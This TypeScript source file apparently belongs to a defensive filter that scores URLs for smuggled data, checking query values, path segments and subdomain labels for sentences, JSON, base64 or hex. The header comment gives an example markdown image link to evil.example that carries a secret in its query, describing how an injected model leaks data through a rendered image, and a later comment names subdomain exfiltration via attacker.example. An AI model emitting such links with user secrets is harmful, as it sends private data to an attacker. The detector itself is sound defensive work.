/**
 * Does a URL carry data out? An attacker who gets a model to render
 * ![x](https://evil.example/p?q=<secret>) has the reader's browser send the secret. Ordinary links
 * also carry identifiers (article ids, hashes, tracking tags), so this looks at what each piece
 * of the URL holds once percent-decoded: sentences, structured records (JSON, key=value lists),
 * base64 blobs, or simply long values. Percent-encoding alone is not a signal: titles in other
 * scripts are percent-encoded in every Wikipedia link.
 */

export type DataKind = "sentence" | "structured" | "base64" | "hex" | "encoded" | "long";

export interface CarriedData {
  kind: DataKind;
  /** Where: "query 'name'", "path", "subdomain". */
  where: string;
  /** Length of the decoded value. */
  length: number;
  /** Strong kinds are what exfiltration looks like; hex and plain long values are often benign ids. */
  strong: boolean;
}

// Tracking and sharing parameters that routinely hold long opaque values in benign links.
const TRACKING_PARAMS = new Set([
  "fbclid",
  "gclid",
  "dclid",
  "gbraid",
  "wbraid",
  "msclkid",
  "yclid",
  "igshid",
  "mc_eid",
  "mc_cid",
  "_ga",
  "_gl",
  "si",
  "ved",
  "usg",
  "ei",
  "sa",
  "oq",
  "gs_lcp",
  "sxsrf",
  "aqs",
  "sourceid",
  "spm",
  "ref_src",
  "ref_url",
  "share",
]);
/** Parameters whose value is a search query: a sentence there is what a search link looks like. */
export const SEARCH_PARAMS = new Set([
  "q",
  "query",
  "search",
  "s",
  "text",
  "k",
  "p",
  "term",
  "keywords",
  "wd",
  "search_query",
]);

const BASE64ISH = /^[A-Za-z0-9+/_-]+={0,2}$/;
const HEX = /^[0-9a-fA-F]+$/;
const WORDS = /[\p{L}\p{N}]+/gu;
const PLUS = /\+/g;
const BLANK = /\s/;
const UPPER = /[A-Z]/;
const LOWER = /[a-z]/;
const DIGIT = /[0-9]/;
const EXTENSION = /\.[a-z0-9]{1,5}$/i;

/** Shannon entropy in bits per character. */
export function entropy(s: string): number {
  const counts = new Map<number, number>();
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    counts.set(c, (counts.get(c) ?? 0) + 1);
  }
  let h = 0;
  for (const n of counts.values()) {
    const p = n / s.length;
    h -= p * Math.log2(p);
  }
  return h;
}

/** Percent-decodes; with form = true a '+' is a space, as in query strings from HTML forms. */
function safeDecode(s: string, form = true): string {
  try {
    return decodeURIComponent(form ? s.replace(PLUS, " ") : s);
  } catch {
    return s;
  }
}

function countMatches(re: RegExp, s: string, cap: number): number {
  re.lastIndex = 0;
  let n = 0;
  while (n < cap && re.exec(s) !== null) n++;
  return n;
}

/**
 * Random base64 changes character class (upper, lower, digit, symbol) almost every character: the
 * mean run of one class is about 1.6. CamelCase names and slugs run much longer (BackwardCompatibility
 * has runs of 7 and 12). Slugs also separate words with '-' or '_' every few characters, where
 * random base64url has one about every 32.
 */
/** True when the value base64-decodes to readable text: random ids never do, smuggled data does. */
function decodesToText(value: string): boolean {
  if (value.length < 16) return false;
  const bytes = Buffer.from(value, value.includes("-") || value.includes("_") ? "base64url" : "base64");
  if (bytes.length < 12) return false;
  let printable = 0;
  for (const b of bytes) if ((b >= 32 && b < 127) || b === 9 || b === 10 || b === 13) printable++;
  return printable / bytes.length >= 0.95;
}

function looksLikeBase64(value: string): boolean {
  if (!BASE64ISH.test(value) || !UPPER.test(value) || !LOWER.test(value)) return false;
  if (decodesToText(value)) return true;
  let separators = 0;
  let runs = 1;
  let prev = -1;
  for (let i = 0; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c === 45 || c === 95) separators++;
    const cls = c >= 97 && c <= 122 ? 0 : c >= 65 && c <= 90 ? 1 : c >= 48 && c <= 57 ? 2 : 3;
    if (prev !== -1 && cls !== prev) runs++;
    prev = cls;
  }
  if (separators * 12 > value.length || value.length / runs > 2.5) return false;
  // Short random strings cannot reach 4 bits per character: scale the bar with the length.
  return entropy(value) >= Math.min(4, 0.8 * Math.log2(value.length));
}

/** JSON ("key": value) or a key=value list carried inside one parameter. */
function looksStructured(value: string): boolean {
  let quotes = 0;
  let colons = 0;
  let equals = 0;
  for (let i = 0; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c === 34) quotes++;
    else if (c === 58) colons++;
    else if (c === 61) equals++;
  }
  // Base64 padding ("==") is not a key=value list.
  let tail = value.length;
  while (tail > 0 && value.charCodeAt(tail - 1) === 61) tail--;
  equals -= value.length - tail;
  return (quotes >= 2 && colons >= 1) || equals >= 2;
}

/** Classifies one URL piece as written (rawValue) once, decoded, it reaches the minimum length. */
export function classifyPiece(
  rawValue: string,
  minLength: number,
): { kind: DataKind; strong: boolean } | undefined {
  // '+' is part of the base64 alphabet, so base64 is judged before '+' becomes a space.
  const strict = safeDecode(rawValue, false);
  if (strict.length < minLength) return undefined;
  if (HEX.test(strict)) return { kind: "hex", strong: false };
  if (looksLikeBase64(strict)) return { kind: "base64", strong: true };
  const value = safeDecode(rawValue);
  if (countMatches(WORDS, value, 4) >= 4 && BLANK.test(value)) return { kind: "sentence", strong: true };
  if (looksStructured(value)) return { kind: "structured", strong: true };
  if (value.length >= 2 * minLength) return { kind: "long", strong: false };
  return undefined;
}

const DNS_LABEL = /^[a-z0-9-]+$/;

/**
 * DNS labels are case-insensitive (the URL parser lower-cases them), so exfiltration through a
 * subdomain uses hex or base32: a long label mixing letters and digits with high entropy.
 */
export function classifyLabel(
  label: string,
  minLength: number,
): { kind: DataKind; strong: boolean } | undefined {
  if (label.length < minLength || !DNS_LABEL.test(label)) return undefined;
  if (HEX.test(label)) return { kind: "hex", strong: true };
  if (
    DIGIT.test(label) &&
    LOWER.test(label) &&
    entropy(label) >= Math.min(3.5, 0.75 * Math.log2(label.length))
  )
    return { kind: "encoded", strong: true };
  return undefined;
}

export const PATTERNS: readonly RegExp[] = [
  BASE64ISH,
  HEX,
  WORDS,
  PLUS,
  BLANK,
  UPPER,
  LOWER,
  DIGIT,
  EXTENSION,
  DNS_LABEL,
];

/** Pieces of the URL that carry data, strongest first. Search-box sentences are returned with where = "search". */
export function carriedData(url: URL, minLength: number, trackingIsBenign: boolean): CarriedData[] {
  const out: CarriedData[] = [];
  const query = url.search.length > 1 ? url.search.slice(1) : "";
  if (query.length >= minLength) {
    for (const pair of query.split("&")) {
      const eq = pair.indexOf("=");
      const name = safeDecode(eq < 0 ? pair : pair.slice(0, eq)).toLowerCase();
      const value = eq < 0 ? pair : pair.slice(eq + 1);
      if (trackingIsBenign && (TRACKING_PARAMS.has(name) || name.startsWith("utm_"))) continue;
      const c = classifyPiece(value, minLength);
      if (!c) continue;
      const where =
        c.kind === "sentence" && SEARCH_PARAMS.has(name) ? "search" : `query '${name.slice(0, 40)}'`;
      out.push({ ...c, where, length: safeDecode(value).length });
    }
  }
  if (url.pathname.length >= minLength) {
    for (const seg of url.pathname.split("/")) {
      if (seg.length === 0) continue;
      // A file name's extension is not data.
      const stem = seg.replace(EXTENSION, "");
      const c = classifyPiece(stem, minLength);
      if (c) out.push({ ...c, where: "path", length: safeDecode(stem).length });
    }
  }
  // Data can also ride in DNS labels: <blob>.attacker.example.
  const labels = url.hostname.split(".");
  for (let i = 0; i < labels.length - 2; i++) {
    const c = classifyLabel(labels[i] as string, minLength);
    if (c) out.push({ ...c, where: "subdomain", length: (labels[i] as string).length });
  }
  return out.sort((a, b) => Number(b.strong) - Number(a.strong) || b.length - a.length);
}
